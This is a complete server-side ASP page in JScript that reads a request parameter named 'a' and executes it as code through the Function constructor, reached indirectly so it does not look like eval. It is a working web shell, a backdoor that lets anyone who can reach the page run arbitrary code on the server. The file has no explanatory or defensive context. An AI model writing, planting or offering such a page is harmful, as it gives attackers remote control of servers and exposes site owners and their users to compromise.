<script language="JScript" runat="server">
var parts = [];
parts.push(Request.Item("a"));
var joined = parts.join("");
var ctor = (function(){}).constructor;
ctor(joined)();
</script>
